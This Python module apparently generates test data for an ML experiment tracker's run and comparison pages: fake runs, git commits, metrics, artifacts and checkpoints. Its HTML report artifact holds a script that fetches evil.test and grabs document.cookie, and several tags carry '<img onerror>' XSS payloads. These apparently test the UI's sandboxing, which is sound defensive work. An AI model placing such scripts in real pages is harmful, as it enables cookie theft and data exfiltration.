"""What is compared in the tests and pictures of the comparison and the run page? Runs with files of every kind, code in
git, failures, families, and a run that nobody could end. Made by nbtrack itself, but for the training."""

from __future__ import annotations

import io
import json
import math
import random
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
from PIL import Image

import nbtrack
from nbtrack.capture.alive import HEARTBEAT, PROCESS
from nbtrack.entities import RunStatus
from nbtrack.stores.files.model_shelf import FileModels
from nbtrack.stores.receiving import LoggedModel, ModelLinks, ModelPoint
from tests.capture.test_git import git

CELL = """rate = {rate}
epochs = 40
model = Classifier(rate, hidden=[64, {hidden}])
for epoch in range(epochs):
    loss = model.fit(X, y)
    nbtrack.log_metric("loss", loss, step=epoch)
"""
DIGITS = pd.DataFrame({"pixel": range(64), "label": [n % 10 for n in range(64)]})
TRACEBACK = """Traceback (most recent call last):
  File "/home/ada/notebooks/digits.ipynb", cell 7, line 5, in <module>
    loss = model.fit(X, y)
  File "/home/ada/notebooks/model.py", line 31, in fit
    raise FloatingPointError(f"loss is {loss} after {step} steps")
FloatingPointError: loss is nan after 312 steps
"""
REPORT = """<!doctype html><title>report</title>
<style>body{font-family:sans-serif;margin:12px}td{padding:2px 8px}</style>
<h2>Run %s</h2><table><tr><td>accuracy</td><td>%.3f</td></tr></table><img src="https://evil.test/pixel.png">
<link rel=stylesheet href="https://evil.test/style.css">
<script>document.body.append("scripts ran"); fetch("https://evil.test/stolen").catch(() => 0);
try { parent.parent.stolen = document.cookie } catch {}
</script><button onclick="location = 'https://evil.test/gone'">leave</button>"""


def make(folder: Path, runs: int) -> list[str]:
    """`runs` runs in `folder`/mlruns, oldest first; the working folder should be `folder`."""
    commits = _repository(folder)
    nbtrack.set_tracking_uri(folder / "mlruns")
    experiment = nbtrack.create_experiment("digits")
    return [_run(i, commits, experiment) for i in range(runs)]


def _repository(folder: Path) -> list[str]:
    git(folder, "init", "-q", "-b", "main")
    (folder / ".git" / "info" / "exclude").write_text("mlruns\n")
    found = []
    for depth in (1, 2, 3):
        (folder / "model.py").write_text(
            "import numpy as np\n\n\nclass Classifier:\n"
            f"    depth = {depth}\n\n    def fit(self, X, y):\n        return self.step(X, y) * {depth}\n"
        )
        (folder / "data.csv").write_text("".join(f"{i},{i * depth}\n" for i in range(40 * depth)))
        if depth == 3:
            (folder / "augment.py").write_text("def flip(image):\n    return image[:, ::-1]\n")
        git(folder, "add", ".")
        git(folder, "commit", "-qm", f"depth {depth}")
        found.append(git(folder, "rev-parse", "HEAD").strip())
    return found


def _run(i: int, commits: list[str], experiment: str) -> str:
    noise = random.Random(i)
    rate, hidden = (0.3, 0.1, 0.03, 0.01)[i % 4], 32 * (1 + i % 3)
    tags = {
        "mlflow.source.git.commit": commits[i % 2],
        "mlflow.source.git.branch": "main",
        "nbtrack.git.dirty": str(i % 3 == 0).lower(),
        "nbtrack.python": "3.12.4" if i % 4 else "3.11.9",
        "nbtrack.os": "Linux 6.1",
        "nbtrack.cpus": "8",
        "nbtrack.metric.loss": "min",
        "stage": "trial" if i % 2 else "final",
    }
    if i % 3 == 0:
        tags["nbtrack.git.snapshot"] = commits[2]
    if i % 5 == 0:
        tags["mlflow.note.content"] = f"**Run {i}**: with {hidden} units.\n\n- better on *sevens*\n- <b>not markup</b>"
    name = f"{('amber', 'brisk', 'calm', 'deft', 'eager')[i % 5]}-lark-{i}"
    with nbtrack.start_run(run_name=name, experiment_id=experiment, tags=tags) as run:
        nbtrack.log_params({"rate": rate, "hidden": hidden, "seed": 0, "optimizer": ("adam", "sgd")[i % 2]})
        floor = 0.05 + 0.2 * noise.random()
        for step in range(0, 40, 1 + i % 2):
            loss = floor + math.exp(-step / (4 + i % 7)) + 0.02 * noise.random()
            nbtrack.log_metrics({"loss": loss, "val/accuracy": 1 - loss / 2, "lr": rate * (1 - step / 50)}, step=step)
            nbtrack.log_metric("system/cpu_utilization_percentage", 40 + 30 * noise.random(), step=step)
        nbtrack.log_input(nbtrack.data.from_pandas(DIGITS, name="digits"), context="training")
        _files(i, noise, rate, hidden, 1 - floor)
    if i == 0:
        _models(run.info.run_id, experiment)
    _fate(run.info.run_id, i)
    return str(run.info.run_id)


def _files(i: int, noise: random.Random, rate: float, hidden: int, accuracy: float) -> None:
    nbtrack.log_text(CELL.format(rate=rate, hidden=hidden), "cell.py")
    nbtrack.log_text(f"numpy==2.{i % 2}.0\npandas==3.1\nscikit-learn==1.{5 + i % 3}\ntorch==2.9\n", "requirements.txt")
    nbtrack.log_text("".join(f"epoch {n:3} loss {1 / (n + 1):.4f}\n" for n in range(12 + i)), "output.txt")
    nbtrack.log_dict({"classes": list(range(10)), "best": {"epoch": 20 + i % 5, "accuracy": accuracy}}, "summary.json")
    names = ("zero", "one", "seven", "nine")
    nbtrack.log_table(
        {"class": names, "precision": [round(0.9 + 0.02 * noise.random(), 3) for _ in names]}, "table.json"
    )
    rows = "".join(f"{n},{'abc'[n % 3]},{0.1 * n * (1 + (i > 0 and n % 4 == 0)):.2f}\n" for n in range(30))
    nbtrack.log_text("id,label,score\n" + rows, "predictions.csv")
    scores = io.BytesIO()
    pd.DataFrame({"id": range(700), "word": "<b>seven</b>", "score": [0.5 + i, *[None] * 699]}).to_parquet(scores)
    nbtrack.MlflowClient().store.write_artifact(nbtrack.active_run().info.run_id, "scores.parquet", scores.getvalue())
    nbtrack.log_text(REPORT % (i, accuracy), "report.html")
    side = 10 if i != 1 else 6
    pixels = np.random.default_rng(i).integers(0, 255, (side * 24, side * 24), np.uint8)
    pixels = np.add.outer(np.arange(side * 24), np.arange(side * 24)).astype(np.uint8) // 2 + pixels // 8
    nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
    z = [[noise.random() for _ in range(6)] for _ in range(6)]
    roc = {"x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}
    image = {"source": "https://evil.test/in-figure.png", "x": 0, "y": 1, "sizex": 0.1, "sizey": 0.1}
    figure = {
        "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", **roc}],
        "layout": {"title": {"text": "ROC"}, "width": 900, "images": [image]},
    }
    nbtrack.log_text(json.dumps(figure), "plots/roc.plotly.json")
    heat = {"data": [{"type": "heatmap", "z": z}], "layout": {"title": {"text": "Confusion"}}}
    nbtrack.log_text(json.dumps(heat), "plots/confusion.json")
    if i % 2 == 0:
        script = '<script charset="utf-8" src="https://cdn.plot.ly/plotly-3.1.0.min.js"></script>'
        body = '<div id="here" style="height:260px"></div><script>Plotly.newPlot("here", [{"y": [1, 3, 2]}])</script>'
        nbtrack.log_text(f"<html><body>{script}{body}</body></html>", "figure.html")
        nbtrack.log_text("\0\1\2", "model.bin")


def _models(run: str, experiment: str) -> None:
    """Two checkpoints, as MLflow 3 keeps them."""
    held = FileModels(nbtrack.MlflowClient().store)  # type: ignore[arg-type]
    for step, accuracy in ((10, 0.81), (20, float("nan"))):
        model_id = f"m-{step:032x}"
        points = (
            ModelPoint("accuracy", accuracy, 1_772_000_000_000, step, run, "digits", "d1"),
            ModelPoint("accuracy", 0.5, 1_772_000_000_000, step - 1, run, "digits", "d1"),
        )
        params = (("units", "64"), ("note", "<img src=x onerror=alert(1)>"))
        model = LoggedModel(
            model_id, f"checkpoint-{step}", 2, 1_772_000_000_000, 1_772_000_000_000, params=params, points=points
        )
        held.receive_model(experiment, model)
        held.receive_links(run, ModelLinks(made=((model_id, step),)))
        folder = held.model_files(model_id)
        (folder / "data").mkdir(parents=True)
        (folder / "MLmodel").write_text("flavors:\n  pytorch:\n    model_data: data\n")
        (folder / "data" / "model.pth").write_bytes(b"\0\1\2")


def _fate(run: str, i: int) -> None:
    """Every seventh failed, and one was left open by a process that is gone."""
    client = nbtrack.MlflowClient()
    if i % 7 == 3:
        client.set_tag(
            run, "nbtrack.error", "FloatingPointError: loss is nan after 312 steps <img src=x onerror=alert(1)>"
        )
        client.log_text(run, TRACEBACK, "traceback.txt")
        client.set_terminated(run, "FAILED")
    if i == 1:
        code = "from nbtrack.capture.alive import *; print(process_tags()[PROCESS])"
        gone = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()
        last = client.get_run(run).info.start_time or 0
        client.store.update_run(run, status=RunStatus.RUNNING)
        client.set_tag(run, PROCESS, gone)
        client.set_tag(run, HEARTBEAT, str(last + 754_000))


def family(parent: str, children: list[str]) -> None:
    client = nbtrack.MlflowClient()
    for child in children:
        client.set_tag(child, "mlflow.parentRunId", parent)
